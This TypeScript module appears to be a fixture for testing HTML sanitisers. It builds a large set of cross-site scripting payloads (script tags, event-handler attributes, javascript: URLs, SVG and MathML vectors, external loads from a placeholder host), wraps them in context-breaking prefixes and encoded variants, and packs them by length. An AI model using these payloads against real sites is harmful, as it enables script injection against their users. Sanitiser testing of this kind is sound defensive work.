/** Elements and attributes that would do something; each bears the mark by which it is found. */
const vectors = [
  '<script data-pwned>alert(1)</script>',
  '<ScRiPt data-pwned src=//elsewhere.example/a.js></sCrIpT>',
  '<script\u000adata-pwned>alert(1)</script >',
  '<img data-pwned src=x onerror=alert(1)>',
  '<img/data-pwned/src="x"/onerror=alert`1`>',
  '<img data-pwned src=//elsewhere.example/a.png>',
  '<img data-pwned srcset="//elsewhere.example/b.png 1x">',
  '<svg data-pwned onload=alert(1)>',
  '<svg data-pwned><script>alert(1)</script></svg>',
  '<svg data-pwned><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg data-pwned><use href="//elsewhere.example/a.svg#a"/></svg>',
  '<math data-pwned><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<iframe data-pwned src="javascript:alert(1)"></iframe>',
  '<iframe data-pwned srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data-pwned data="//elsewhere.example/a"></object>',
  '<embed data-pwned src="//elsewhere.example/a">',
  '<style data-pwned>@import "//elsewhere.example/a.css";</style>',
  '<link data-pwned rel=stylesheet href=//elsewhere.example/a.css>',
  '<base data-pwned href=//elsewhere.example/>',
  '<meta data-pwned http-equiv=refresh content="0;url=//elsewhere.example">',
  '<form data-pwned action=//elsewhere.example><button>好</button></form>',
  '<input data-pwned autofocus onfocus=alert(1)>',
  '<select data-pwned autofocus onfocus=alert(1)></select>',
  '<button data-pwned formaction="javascript:alert(1)">好</button>',
  '<textarea data-pwned autofocus onfocus=alert(1)>',
  '<details data-pwned open ontoggle=alert(1)>',
  '<video data-pwned src=x onerror=alert(1)></video>',
  '<video data-pwned><source onerror=alert(1) src=x></video>',
  '<audio data-pwned autoplay src=//elsewhere.example/a.mp3></audio>',
  '<a data-pwned href="javascript:alert(1)">看</a>',
  '<a data-pwned href="java\tscript:alert(1)">看</a>',
  '<a data-pwned href="data:text/html,<script>alert(1)</script>">看</a>',
  '<p data-pwned style="background:url(//elsewhere.example/c)">看</p>',
  '<p data-pwned onpointerover=alert(1)>看</p>',
  '<marquee data-pwned onstart=alert(1)>看</marquee>',
  '<x-y data-pwned tabindex=1 onfocus=alert(1) autofocus>看',
];

/** Places a text may stand in, and what would end them. */
const contexts: ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'>${vector}`,
  (vector) => `\`>${vector}`,
  (vector) => `--!>${vector}`,
  (vector) => `<!--><!-->${vector}`,
  (vector) => `]]>${vector}`,
  (vector) => `</title>${vector}`,
  (vector) => `</textarea>${vector}`,
  (vector) => `</style>${vector}`,
  (vector) => `</script>${vector}`,
  (vector) => `</option></select>${vector}`,
  (vector) => `</noscript>${vector}`,
  (vector) => `\\u003c/p>${vector}`,
  (vector) => `<<b/>${vector}`,
];

/** The same again for careless decoders: these are text unless something decodes them once too often. */
const codings: ((vector: string) => string)[] = [
  (vector) => vector.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (vector) => vector.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (vector) => vector.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (vector) => vector.replaceAll('<', '＜').replaceAll('>', '＞'),
];

export const bare = vectors.flatMap((vector) => contexts.map((within) => within(vector)));
export const payloads = [...new Set([...bare, ...vectors.flatMap((vector) => codings.map((code) => code(vector)))])];

/** All of them in as few texts of at most `most` characters as follow each other; longer ones are left out. */
export function packed(texts: readonly string[], most: number): string[] {
  const packs = [''];
  for (const text of texts.filter((one) => one.length <= most)) {
    const last = packs.at(-1) ?? '';
    if (last.length + 1 + text.length <= most) packs[packs.length - 1] = last === '' ? text : `${last}\n${text}`;
    else packs.push(text);
  }
  return packs;
}
